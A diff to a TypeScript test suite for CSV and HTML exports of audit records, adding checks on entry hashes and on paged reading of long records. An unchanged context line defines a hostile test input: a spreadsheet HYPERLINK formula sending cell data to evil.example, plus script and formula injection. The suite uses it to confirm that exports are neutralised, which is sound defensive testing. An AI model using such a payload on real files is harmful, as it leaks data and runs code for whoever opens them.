@@ -1,10 +1,11 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { openCase } from '../../example/server/case-record.js';
 import type { Database } from '../../example/server/database.js';
 import type { Host } from '../../example/server/host.js';
 import { sampleProposals } from '../../src/backends/sample-reviews.js';
-import { type Policy, type Proposal, type Review, sawOf } from '../../src/core.js';
+import { type Policy, type Proposal, type Review, type Reviewer, sawOf } from '../../src/core.js';
 import { calculates, readAs, readCsv } from '../audit/export.fixtures.js';
-import { type accept, openReusable, signIn, startTestHost, type Visitor } from './host.fixtures.js';
+import { accept, openReusable, signIn, startTestHost, type Visitor } from './host.fixtures.js';
 import { asAdministrator } from './log.fixtures.js';
 
 const EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Open")<script>alert(1)</script>\u202e"; =1+1';
@@ -84,6 +85,51 @@ describe('exports over HTTP', () => {
     for (const separator of [';', '\t', '|']) expect(readAs(separator, text).filter(calculates)).toEqual([]);
   });
 
+  it('has place and digest of every entry in both, as the log has them', async () => {
+    const lines = await database.query<{ seq: number; place: number; hash: string }>(
+      'select seq, place::int as place, hash from audit_lines where review_id = $1 order by seq',
+      [hostile.id],
+    );
+    const [head = [], ...rows] = readCsv(await (await people.lena.request(`${path}/export.csv`)).text());
+    const column = (name: string) => rows.map((row) => row[head.indexOf(name)]);
+    expect(column('seq')).toEqual(lines.map(({ seq }) => String(seq)));
+    expect(column('position')).toEqual(lines.map(({ place }) => String(place)));
+    expect(column('hash')).toEqual(lines.map(({ hash }) => hash));
+    const html = await (await people.lena.request(`${path}/export.html`)).text();
+    expect(lines.filter(({ hash }) => !html.includes(hash))).toEqual([]);
+  });
+
+  it('reads a long record piece by piece, as it was when it was asked for', async () => {
+    const reader: Reviewer = { id: 'lena', name: 'Lena Vogt', roles: ['auditor'] };
+    let queries = 0;
+    const counting: Database = {
+      ...database,
+      query: (...given) => {
+        queries += 1;
+        return database.query(...given);
+      },
+    };
+    const id = 'long';
+    await host.store.open([{ ...sampleProposals.refund, id }], () => policy);
+    let review = await people.amara.get<Review>(`/api/reviews/${id}`);
+    for (let count = 0; count < 105; count++) {
+      review = await accept(people.amara, review, { type: 'claim' });
+      review = await accept(people.amara, review, { type: 'release' });
+    }
+    const record = await openCase(counting, id, reader);
+    const seqs: number[] = [];
+    for await (const { seq } of record?.entries ?? []) {
+      if (seq === 1) {
+        expect(queries).toBe(2);
+        review = await accept(people.amara, review, { type: 'claim' });
+      }
+      seqs.push(seq);
+    }
+    expect(seqs).toEqual(Array.from({ length: 211 }, (_, at) => at + 1));
+    expect(queries).toBe(3);
+    expect(await openCase(database, 'nowhere', reader)).toBeUndefined();
+  });
+
   it('gives a supervisor the document, in their language, with nothing in it that runs', async () => {
     const answer = await people.priya.request(`${path}/export.html?lang=de`);
     expect(answer.headers.get('content-type')).toBe('text/html; charset=utf-8');
@@ -106,6 +152,7 @@ describe('exports over HTTP', () => {
       expect(html).toContain('an underwriter');
       expect(html).toContain('Your income and the instalment did not fit the suggestion');
       expect(html).not.toMatch(/Amara|Osei|amara|0\.31|0\.66|66|Spoke|<script/);
+      expect(html).not.toContain('Income and instalment do not fit');
     }
     const open = await people.amara.request('/api/reviews/open/explanation?lang=ar');
     expect(await open.text()).toContain('لم يُبَت في حالتك بعد.');
